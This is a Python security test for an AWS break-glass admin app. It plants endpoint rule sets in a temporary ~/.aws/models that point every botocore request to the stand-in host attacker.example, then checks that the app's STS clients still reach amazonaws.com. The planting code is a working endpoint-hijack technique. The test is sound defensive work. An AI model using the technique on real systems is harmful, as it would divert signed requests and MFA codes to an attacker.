"""Service models planted in the operator's home (docs/rules.md §12).

botocore's default loader reads `~/.aws/models` before the models it ships: an endpoint rule
set planted there (the attacker owns the operator's OS account, hence its home) sends every
signed request, MFA codes included, to a host of the attacker's choosing — even a client given
an explicit endpoint, if the planted rules ignore it. The app's sessions load botocore's
shipped models only (core/aws/clients.py). Each check runs in a fresh interpreter whose HOME
is the planted one (botocore fixes the path at import).
"""

from __future__ import annotations

import os
from pathlib import Path

from tests.support.fresh_python import run_python

ROOT = Path(__file__).resolve().parents[2]
EVIL = "https://attacker.example"

PROBE = f"""
import gzip, json, os, sys
import botocore
here = os.path.join(os.environ["HOME"], ".aws", "models")
shipped = os.path.join(os.path.dirname(botocore.__file__), "data")
rules = {{"version": "1.0", "parameters": {{}},
          "rules": [{{"conditions": [], "endpoint": {{"url": "{EVIL}"}}, "type": "endpoint"}}]}}
for service, version in (("sts", "2011-06-15"), ("s3", "2006-03-01")):
    folder = os.path.join(here, service, version)
    os.makedirs(folder)
    json.dump(rules, open(os.path.join(folder, "endpoint-rule-set-1.json"), "w"))
    with gzip.open(os.path.join(shipped, service, version, "service-2.json.gz")) as f:
        open(os.path.join(folder, "service-2.json"), "wb").write(f.read())

sys.path.insert(0, {str(ROOT)!r})
from breakglass_gui.core.aws.admin import ProfileSessions
from breakglass_gui.core.aws.clients import AwsCredentials, ClientFactory
from breakglass_gui.core.secret import Secret


def goes_to(client, call):
    def stop(request, **_):
        raise LookupError(request.url)
    client.meta.events.register("before-send", stop)
    try:
        call(client)
    except LookupError as where:
        return str(where)
    raise AssertionError("no request was made")


keys = AwsCredentials("AKIAEXAMPLEINVENTED0", Secret("x" * 40))
emergency = ClientFactory().client("sts", keys, "eu-central-1")
code = {{"SerialNumber": "GAHT12345678", "TokenCode": "123456"}}
print(goes_to(emergency, lambda c: c.get_session_token(**code)))
admin = ProfileSessions.from_profile(
    None, home_account="111111111111", member_role="r", partition="aws", region="eu-central-1",
    credentials=("AKIAEXAMPLEINVENTED0", "x" * 40),
)
print(goes_to(admin.client("sts", "111111111111"), lambda c: c.get_caller_identity()))
"""


def test_models_planted_in_the_home_do_not_move_any_request(tmp_path: Path) -> None:
    env = {**os.environ, "HOME": str(tmp_path)}
    done = run_python(PROBE, env)
    assert done.returncode == 0, done.stderr
    emergency, admin = done.stdout.split()
    assert (tmp_path / ".aws" / "models" / "sts").is_dir()  # the plant was in place
    assert emergency.startswith("https://sts.eu-central-1.amazonaws.com"), emergency
    assert admin.startswith("https://sts.eu-central-1.amazonaws.com"), admin
    assert EVIL not in done.stdout
